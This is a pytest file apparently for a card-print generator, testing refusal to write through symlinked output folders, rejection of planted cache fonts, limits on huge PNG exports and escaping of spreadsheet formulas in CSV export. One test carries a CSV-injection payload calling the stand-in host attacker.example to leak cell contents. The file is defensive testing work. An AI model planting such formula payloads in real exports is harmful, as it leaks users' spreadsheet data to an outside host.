"""Hostile output and cache folders: output/ (or a folder below it) shipped as a link out of the project, fonts
planted where converted fonts are kept, a raster export too large for memory. Nothing outside the project is
written or deleted, and only fonts this user's builds made are embedded."""
from __future__ import annotations

import hashlib
import os
from pathlib import Path

import pytest
from pypdf import PdfReader

from attack import CARDS, assert_no_traceback, assert_refused, build, digests, make_project, run
from test_hostile import make_cff_font
from pnpgen.faces.fonts import BUNDLED_FONTS

symlinks = pytest.mark.skipif(not hasattr(os, "symlink"), reason="needs symlinks")


@pytest.fixture
def users_folder(tmp_path: Path) -> Path:
    """A folder of the user's, outside the project, holding a PDF and images named like the build's."""
    folder = tmp_path / "users-documents"
    folder.mkdir()
    (folder / "deck.pdf").write_bytes(b"%PDF-1.4 the user's own file\n")
    (folder / "deck-001-front.png").write_bytes(b"the user's photo")
    (folder / "deck-007-front.png").write_bytes(b"another photo, named like a stale image")
    return folder


@symlinks
@pytest.mark.parametrize("linked", ["output", "output/g"])
def test_build_never_writes_through_an_output_link(tmp_path: Path, users_folder: Path, linked: str):
    root = make_project(tmp_path)
    (root / linked).parent.mkdir(parents=True, exist_ok=True)
    (root / linked).symlink_to(users_folder, target_is_directory=True)
    before = digests(users_folder)
    result, _ = run("build", root)
    assert_no_traceback(result)
    assert result.exit_code == 1
    assert result.stderr == (f"error: {linked}: is a link to {users_folder.resolve()}, outside the project folder; "
                             "expected a real folder inside the project (or choose where the files go with -o)\n")
    assert digests(users_folder) == before and sorted(p.name for p in users_folder.iterdir()) == sorted(before)


@symlinks
def test_export_png_never_deletes_through_an_output_link(tmp_path: Path, users_folder: Path):
    root = make_project(tmp_path)
    (root / "output" / "g").mkdir(parents=True)
    (root / "output" / "g" / "png").symlink_to(users_folder, target_is_directory=True)
    before = digests(users_folder)
    result, _ = run("export", "png", root, "--dpi", "30")
    assert_no_traceback(result)
    assert result.exit_code == 1
    assert result.stderr == (f"error: output/g/png: is a link to {users_folder.resolve()}, outside the project "
                             "folder; expected a real folder inside the project (or choose where the files go with -o)\n")
    assert digests(users_folder) == before


def test_an_output_folder_the_user_names_outside_the_project_is_used(tmp_path: Path):
    result, out = build(make_project(tmp_path), out=tmp_path / "elsewhere" / "prints")
    assert result.exit_code == 0, result.output
    assert (out / "g" / "deck.pdf").is_file()


def test_a_png_export_of_a_two_metre_map_is_refused_before_rasterising(tmp_path: Path):
    cards = CARDS.replace("        front: front.svg.j2\n",
                          "        kind: map\n        size: {width: 2000mm, height: 2000mm}\n        front: front.svg.j2\n")
    root = make_project(tmp_path, cards=cards)
    out = tmp_path / "out"
    result, seconds = run("export", "png", root, "-o", out)
    assert seconds < 300  # a hang guard only (rasterising 23,693² pixels would take far longer)
    assert_refused(result, out, "cards.yaml:5:9: component 'deck' at 300 dpi is 23,693 × 23,693 pixels; expected "
                                "at most 64,000,000 pixels an image (--dpi 101 or less)")


def cff_project(tmp_path: Path) -> Path:
    front = '{{ text("A A A", 3, 10, 40, 10, family="Hostile CFF") }}'
    root = make_project(tmp_path, front)
    (root / "fonts").mkdir()
    make_cff_font(root / "fonts" / "HostileCFF.otf")
    return root


def embedded_font_digest(pdf: Path) -> str:
    """The bytes of the subset font the PDF embeds for the project's font (pages and the forms they draw)."""
    stack = [page["/Resources"] for page in PdfReader(pdf).pages]
    while stack:
        resources = stack.pop().get_object()
        for font in resources.get("/Font", {}).values():
            font = font.get_object()
            if "/DescendantFonts" in font:  # a Type0 font: the embedded file is its CID font's
                font = font["/DescendantFonts"][0].get_object()
            if "HostileCFF" in str(font.get("/BaseFont")).replace("-", "") and "/FontDescriptor" in font:
                return hashlib.sha256(font["/FontDescriptor"].get_object()["/FontFile2"].get_data()).hexdigest()
        stack.extend(x.get_object()["/Resources"] for x in resources.get("/XObject", {}).values()
                     if "/Resources" in x.get_object())
    raise AssertionError("the project's font is not embedded")


def test_converted_fonts_live_in_the_users_cache_never_in_the_project(tmp_path: Path):
    root = cff_project(tmp_path)
    result, out = build(root)
    assert result.exit_code == 0, result.output
    assert not (root / ".pnpgen-cache").exists()
    [converted] = (Path(os.environ["PNPGEN_CACHE"]) / "fonts").glob("*.ttf")
    key, content = converted.stem.rsplit("-", 1)
    assert hashlib.sha256(converted.read_bytes()).hexdigest()[:32] == content


@pytest.mark.parametrize("planted", ["project-cache", "tampered", "link"])
def test_a_converted_font_this_user_did_not_make_is_never_embedded(tmp_path: Path, planted: str):
    """A font planted in the project's old cache folder, changed in the user's cache, or linked there is ignored."""
    root = cff_project(tmp_path)
    first, out = build(root, out=tmp_path / "first")
    assert first.exit_code == 0, first.output
    honest = embedded_font_digest(out / "g" / "deck.pdf")
    cache = Path(os.environ["PNPGEN_CACHE"]) / "fonts"
    [converted] = cache.glob("*.ttf")
    evil = tmp_path / "Evil.ttf"
    evil.write_bytes((BUNDLED_FONTS / "NotoSansJP-Regular.ttf").read_bytes()[:200_000])
    if planted == "project-cache":
        (root / ".pnpgen-cache" / "fonts").mkdir(parents=True)
        for name in (converted.name, converted.stem.rsplit("-", 1)[0] + ".ttf"):
            (root / ".pnpgen-cache" / "fonts" / name).write_bytes(evil.read_bytes())
    elif planted == "tampered":
        converted.write_bytes(evil.read_bytes())
    else:
        converted.unlink()
        converted.symlink_to(evil)
    result, again = build(root, out=tmp_path / "again")
    assert result.exit_code == 0, result.output
    assert embedded_font_digest(again / "g" / "deck.pdf") == honest


def test_export_csv_writes_no_cell_a_spreadsheet_runs_as_a_formula(tmp_path: Path):
    attack = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
    cards = CARDS.replace("{name: 剣}", "{name: '" + attack.replace("'", "''") + "', cost: '-1+1', id: '@SUM(1)'}")
    root = make_project(tmp_path, cards=cards)
    result, _ = run("export", "csv", root, "-o", tmp_path / "out")
    assert_no_traceback(result)
    assert result.exit_code == 0, result.output
    rows = (tmp_path / "out/g/csv/deck.csv").read_text(encoding="utf-8-sig").splitlines()
    assert rows == ["name,cost,id,copies", "\"'" + attack.replace('"', '""') + "\",'-1+1,'@SUM(1),1"]
